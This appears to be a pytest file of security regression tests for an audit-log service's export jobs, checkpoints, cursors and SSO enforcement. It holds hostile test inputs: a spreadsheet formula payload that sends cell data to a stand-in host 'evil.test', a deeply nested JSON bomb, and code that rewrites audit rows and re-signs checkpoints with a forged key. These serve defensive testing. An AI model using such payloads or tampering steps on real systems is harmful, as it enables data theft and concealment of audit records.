"""breakit17: faults found in the audit log at scale (issue #17 item 3: export jobs, checkpoints, cursors).

Each test states the documented or expected behaviour and is marked ``xfail(strict=True)`` until fixed."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from hatidata_auth import audit_runtime
from hatidata_auth.api.common import encode_cursor
from hatidata_auth.extensions import db
from hatidata_auth.models import AuditExportJob, utcnow
from tests.api_support import Tenant, headers_for, make_tenant
from tests.audit_support import add_events


@pytest.fixture
def acme(app: Flask) -> Tenant:
    tenant = make_tenant(app, "Acme")
    add_events(app, tenant.id, 20)
    return tenant


def _job(app: Flask, tenant: Tenant) -> str:
    answer = app.test_client().post("/api/v1/audit-events/exports", json={}, headers=headers_for(tenant, "admin"))
    assert answer.status_code == 202, answer.get_json()
    return str(answer.get_json()["id"])


def test_a_download_past_the_retention_is_gone_without_a_worker_pass(app: Flask, acme: Tenant) -> None:
    job_id = _job(app, acme)
    audit_runtime.run_once(app)
    with app.app_context():  # the retention passed; no worker pass since (worker off, lagging or crashed)
        job = db.session.get(AuditExportJob, job_id)
        assert job is not None
        assert job.status == "done"
        job.expires_at = utcnow() - timedelta(seconds=1)
        db.session.commit()
        db.session.remove()
    answer = app.test_client().get(f"/api/v1/audit-events/exports/{job_id}/download",
                                   headers=headers_for(acme, "admin"))
    assert answer.status_code == 410


def test_a_job_orphaned_by_a_crashed_worker_is_recovered(app: Flask, acme: Tenant) -> None:
    job_id = _job(app, acme)
    with app.app_context():  # what run_job commits before writing the file; then the process was killed
        job = db.session.get(AuditExportJob, job_id)
        assert job is not None
        job.status = "running"
        db.session.commit()
        db.session.remove()
    audit_runtime.run_once(app, now=utcnow() + timedelta(days=2))
    status = app.test_client().get(f"/api/v1/audit-events/exports/{job_id}",
                                   headers=headers_for(acme, "admin")).get_json()
    assert status["status"] in ("done", "failed", "pending")


def test_an_organization_cannot_queue_unbounded_export_jobs(app: Flask, acme: Tenant) -> None:
    client, headers = app.test_client(), headers_for(acme, "admin")
    answers = [client.post("/api/v1/audit-events/exports", json={}, headers=headers).status_code for _ in range(50)]
    assert 429 in answers or answers.count(202) < 50


def test_the_csv_export_neutralises_formulas(app: Flask, acme: Tenant) -> None:
    from hatidata_auth.causes import Actor, Cause, RequestInfo
    from hatidata_auth.services import audit

    payload = '=HYPERLINK("http://evil.test/?"&A1,"click")'
    with app.app_context():
        audit.record(db.session, action="test.formula", cause=Cause.by(Actor("user", "usr_x", "x@acme.test"),
                                                                       RequestInfo("10.0.0.9", payload, "req-f")),
                     organization_id=acme.id, details={})
        db.session.commit()
        db.session.remove()
    body = app.test_client().get("/api/v1/audit-events/export?format=csv",
                                 headers=headers_for(acme, "admin")).get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]


@pytest.mark.parametrize("seq", ["\u00b2", "99999999999999999999999"])
def test_a_forged_verify_cursor_is_a_validation_error(app: Flask, acme: Tenant, seq: str) -> None:
    cursor = encode_cursor(f"{seq}:{'0' * 64}")
    answer = app.test_client().get(f"/api/v1/audit-events/verify?cursor={cursor}",
                                   headers=headers_for(acme, "admin"))
    assert answer.status_code == 422, answer.get_data(as_text=True)[:300]


def test_verify_stream_names_a_deeply_nested_line(app: Flask, tmp_path: Path) -> None:
    path = tmp_path / "hostile.ndjson"
    path.write_text("[" * 100_000 + "\n")
    result = app.test_cli_runner().invoke(args=["hatidata", "audit", "verify-stream", str(path), "--keys",
                                                str(_no_keys(tmp_path))])
    assert result.exit_code == 1
    assert "BROKEN: line 1" in result.output, (result.output, repr(result.exception))


def _no_keys(tmp_path: Path) -> Path:
    keys = tmp_path / "keys.json"
    keys.write_text('{"data": []}')
    return keys


@pytest.mark.parametrize("state", ["deleted", "inactive"])
def test_sso_only_is_refused_through_a_connection_that_no_longer_works(app: Flask, state: str) -> None:
    from hatidata_auth.models import AuthSession, Organization

    tenant = make_tenant(app, "Gone")
    with app.app_context():
        org = db.session.get(Organization, tenant.id)
        assert org is not None
        assert org.connection_id
        db.session.add(AuthSession(workos_session_id="session_gone_proof", user_id=tenant.users["admin"],
                                   auth_method="sso", auth_organization_id=org.id, organization_id=org.id,
                                   auth_connection_id=org.connection_id, expires_at=utcnow() + timedelta(hours=1)))
        org.connection_state = state  # connection.deleted / connection.deactivated applied after the proof
        db.session.commit()
        db.session.remove()
    answer = app.test_client().patch("/api/v1/organization/settings", headers=headers_for(tenant, "admin"),
                                     json={"sso_enforced": True})
    assert answer.status_code == 409, answer.get_json()


def test_a_job_file_is_redacted_for_the_reader_who_downloads_it(app: Flask, acme: Tenant) -> None:
    from hatidata_auth.causes import Actor, Cause
    from hatidata_auth.services import audit
    from tests.credential_support import bearer, new_key

    secret_sid = "session_01SECRETWORKOSSESSION"
    with app.app_context():  # a row from before details named our own session id
        audit.record(db.session, action="session.revoked", cause=Cause.by(Actor("user", tenant_user(acme))),
                     organization_id=acme.id, details={"workos_session_id": secret_sid})
        db.session.commit()
        db.session.remove()
    job_id = _job(app, acme)  # the admin may revoke sessions: the job reveals them
    audit_runtime.run_once(app)
    _, reader = new_key(app, acme.id, acme.users["admin"], ["audit:read"])
    client = app.test_client()
    synchronous = client.get("/api/v1/audit-events/export", headers=bearer(reader)).get_data(as_text=True)
    assert secret_sid not in synchronous  # every other read blanks it for this reader
    download = client.get(f"/api/v1/audit-events/exports/{job_id}/download", headers=bearer(reader))
    assert download.status_code == 200
    assert secret_sid not in download.get_data(as_text=True)


def tenant_user(tenant: Tenant) -> str:
    return tenant.users["admin"]


def test_a_key_the_deployment_never_held_cannot_vouch_for_a_rewritten_chain(app: Flask, acme: Tenant) -> None:
    from sqlalchemy import select

    from hatidata_auth.models import AuditCheckpoint, AuditEvent, AuditSigningKey
    from hatidata_auth.services import audit, audit_signing
    from tests.audit_support import tampering

    app.config["HATIDATA_AUDIT_CHECKPOINT_EVERY"] = 10
    audit_runtime.run_once(app)
    mallory = audit_signing.load_signer(audit_signing.generate_key())
    assert mallory is not None
    with app.app_context(), tampering(db.session):  # as in test_a_rewritten_tail_contradicts_its_signed_checkpoint
        rows = list(db.session.scalars(select(AuditEvent).where(AuditEvent.organization_id == acme.id,
                                                                AuditEvent.seq >= 5).order_by(AuditEvent.seq)))
        prev = db.session.scalar(select(AuditEvent.hash).where(AuditEvent.organization_id == acme.id,
                                                               AuditEvent.seq == 4))
        hashes = {}
        for row in rows:
            if row.seq == 5:
                row.actor_email = "mallory@x.test"
            row.prev_hash = prev
            row.hash = prev = hashes[row.seq] = audit.chain_hash(prev, row)
        db.session.add(AuditSigningKey(kid=mallory.kid, algorithm="Ed25519", public_key=mallory.public_key,
                                       created_at=utcnow()))
        for checkpoint in db.session.scalars(select(AuditCheckpoint).where(AuditCheckpoint.organization_id == acme.id)):
            checkpoint.hash = hashes.get(checkpoint.seq, checkpoint.hash)
            checkpoint.kid = mallory.kid
            checkpoint.signature = mallory.sign(acme.id, checkpoint.seq, checkpoint.hash)
    client = app.test_client()
    for query in ("", "?full=true"):
        report = client.get(f"/api/v1/audit-events/verify{query}", headers=headers_for(acme, "admin")).get_json()
        assert not report["ok"], report


def test_a_time_ranged_job_file_verifies_when_transactions_commit_out_of_order(
        app: Flask, acme: Tenant, tmp_path: Path) -> None:
    import json

    from hatidata_auth.causes import Cause
    from hatidata_auth.models import AuditEvent
    from hatidata_auth.services import audit

    with app.app_context():
        slow = db.session.session_factory()  # a transaction that records first and commits last
        audit.record(slow, action="test.slow", cause=Cause.system("test"), organization_id=acme.id)
        quick = audit.record(db.session, action="test.quick", cause=Cause.system("test"), organization_id=acme.id)
        db.session.commit()
        since = quick.created_at
        slow.commit()
        slow.close()
        audit.record(db.session, action="test.later", cause=Cause.system("test"), organization_id=acme.id)
        db.session.commit()
        order = [(e.action, e.seq) for e in db.session.query(AuditEvent).filter(
            AuditEvent.organization_id == acme.id,
            AuditEvent.action.in_(["test.quick", "test.slow", "test.later"])).order_by(AuditEvent.seq)]
        db.session.remove()
    assert [a for a, _ in order] == ["test.quick", "test.slow", "test.later"]
    client, headers = app.test_client(), headers_for(acme, "admin")
    job = client.post("/api/v1/audit-events/exports", json={"since": since.isoformat()}, headers=headers).get_json()
    audit_runtime.run_once(app)
    body = client.get(f"/api/v1/audit-events/exports/{job['id']}/download", headers=headers).get_data(as_text=True)
    assert "test.later" in body
    path = tmp_path / "ranged.ndjson"
    path.write_text(body)
    result = app.test_cli_runner().invoke(args=["hatidata", "audit", "verify-stream", str(path)])
    assert result.exit_code == 0, (result.output, [json.loads(x).get("seq") for x in body.splitlines()])


def test_a_silent_re_login_is_no_fresh_proof_that_sso_works(app: Flask, emulator: Any) -> None:
    import httpx2
    from sqlalchemy import select, update

    from hatidata_auth.models import AuthSession, Organization
    from hatidata_auth.services import sso_enforcement
    from tests.auth_support import ACME, callback_path, start_login, sync_organizations

    orgs = sync_organizations(app)
    client = app.test_client()
    with httpx2.Client(timeout=10) as http:
        first = http.get(start_login(client, email="admin@acme.test"), follow_redirects=False)
        assert client.get(callback_path(str(first.headers["location"]))).status_code == 302
        two_days = 2 * 24 * 3600
        with emulator.emulator.store.lock:  # the admin's last SSO authentication was two days ago
            for record in emulator.emulator.store.browser_sessions.values():
                record["auth_time"] -= two_days
        with app.app_context():
            db.session.execute(update(AuthSession).values(created_at=utcnow() - timedelta(seconds=two_days)))
            db.session.commit()
            db.session.remove()
        again = http.get(start_login(client, organization_id=orgs[ACME], max_age=10 * two_days),
                         follow_redirects=False)
        assert again.status_code == 302  # AuthKit passed the browser straight through: nobody authenticated
        assert client.get(callback_path(str(again.headers["location"]))).status_code == 302
    with app.app_context():
        org = db.session.get(Organization, orgs[ACME])
        assert org is not None
        methods = [(r.auth_method, r.auth_connection_id) for r in db.session.scalars(select(AuthSession))]
        assert methods == [("sso", org.connection_id)] * 2, methods  # the pass-through is an SSO session too
        with pytest.raises(sso_enforcement.EnforcementUnverified):
            sso_enforcement.ensure_can_change(db.session, org, {"sso_enforced": True})
        db.session.remove()
